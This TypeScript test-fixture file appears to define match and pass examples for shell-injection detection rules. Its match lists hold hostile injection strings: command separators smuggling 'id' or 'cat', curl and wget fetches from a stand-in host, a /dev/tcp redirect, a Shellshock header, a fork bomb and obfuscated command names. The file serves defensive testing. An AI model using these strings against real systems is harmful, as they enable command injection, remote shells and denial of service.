// Examples of the shell rules.
import { type Examples, header, query } from "./example.ts";

export const SHELL_EXAMPLES: Examples = {
  "shell-command": {
    match: [
      "x;cat /srv/a",
      "y|id",
      "$(curl http://a.example/)",
      "a && ping -c 3 10.1.1.1",
      "`uname -a`",
      query("a%0Als%20-la"),
      "{l,-la}s",
      "c{a,x}t",
      ";{,id}",
    ],
    pass: [
      "{id,name}",
      "gr{a,e}y",
      "a.{ts,tsx}",
      "kill the lights; cut the cake",
      "Q&A; set of 5",
      "time flies; sort of",
    ],
  },
  "shell-command-likely": {
    match: ["8.8.8.8;whoami now"],
    pass: ["he came home; whoami is a word", "echo in the mirror"],
  },
  "shell-quoted": { match: ["first you should run `curl -L http://a.example`"], pass: ["use `code`"] },
  "shell-alone": {
    match: ["wget http://a.example/x.sh", "cat /home/a/.profile", "which perl"],
    pass: ["curl and divergence", "bash away in the gym", "python -snake", "OpenAI/Python 1.2"],
  },
  "shell-bare": { match: ["whoami"], pass: ["who am i", "id"] },
  "shell-disguised": { match: [";c'a't x", ";wh\\oami", 'w"g"et x'], pass: ["O'Brien's", "'quoted'", "can't"] },
  "shell-wildcard": { match: ["/???/c?t /x"], pass: ["/a/b?c=d", "*.txt"] },
  "shell-shock": { match: [header("() { :;}; echo x")], pass: [header("f() {}"), header("a (b) {c}")] },
  "shell-expansion": { match: [`a\${IFS}b`, "$((7*9))", `\${PATH:0:1}`], pass: [`\${amount}`, "$5.00", "$(this)"] },
  "shell-device": { match: ["> /dev/tcp/10.0.0.9/81"], pass: ["/dev/null", "/developer/tcp"] },
  "shell-interpreter": {
    match: ["bash -c x", "cmd /c dir", "powershell -enc QQ"],
    pass: ["cmd", "powershell is a shell", "node version"],
  },
  "shell-batch": { match: ["for %%a in (1 2) do x", "if exist c.txt x"], pass: ["if not, call", "for all in town"] },
  "shell-client": { match: ["x;.shell id"], pass: ["x; .net"] },
  "shell-redirect": { match: ["x > /tmp/y", "x | sh", "x 2>&1"], pass: ["a > b", "5 | 6"] },
  "shell-bomb": { match: ["z(){ z|z& };z"], pass: ["f(){ return }"] },
  "shell-option": {
    match: ["a --checkpoint-action=exec", "vim x +':!id'", "gcc -wrapper sh,-c,id ."],
    pass: ["--help", "--exclude=x"],
  },
  "shell-assignment": { match: ["a=id;$a"], pass: ["a=1;b=2"] },
  "shell-history": { match: ["!-2"], pass: ["wow!", "!important"] },
  "shell-alias": { match: ["alias x='y'", "alias -g 'x'=y"], pass: ["alias: x"] },
  "shell-shock-body": { match: ["() { :; }; x"], pass: ["() { return 4; }", "f() {}"] },
  "shell-tilde": { match: ["~+", "~-/a"], pass: ["~/a", "~5 km", "a ~ b"] },
  "shell-letters": { match: ["$a$b$c$d", "a=l;b=s;c=x;$a$b"], pass: ["$5", "$first and $last", "a=1;b=2;c=3"] },
  "shell-recall": { match: ["!-3!-2"], pass: ["!1", "wow!!"] },
  "shell-empty": { match: [";$x id y", "|$u wget b"], pass: ["$5 cat food", "costs $x cat y"] },
};
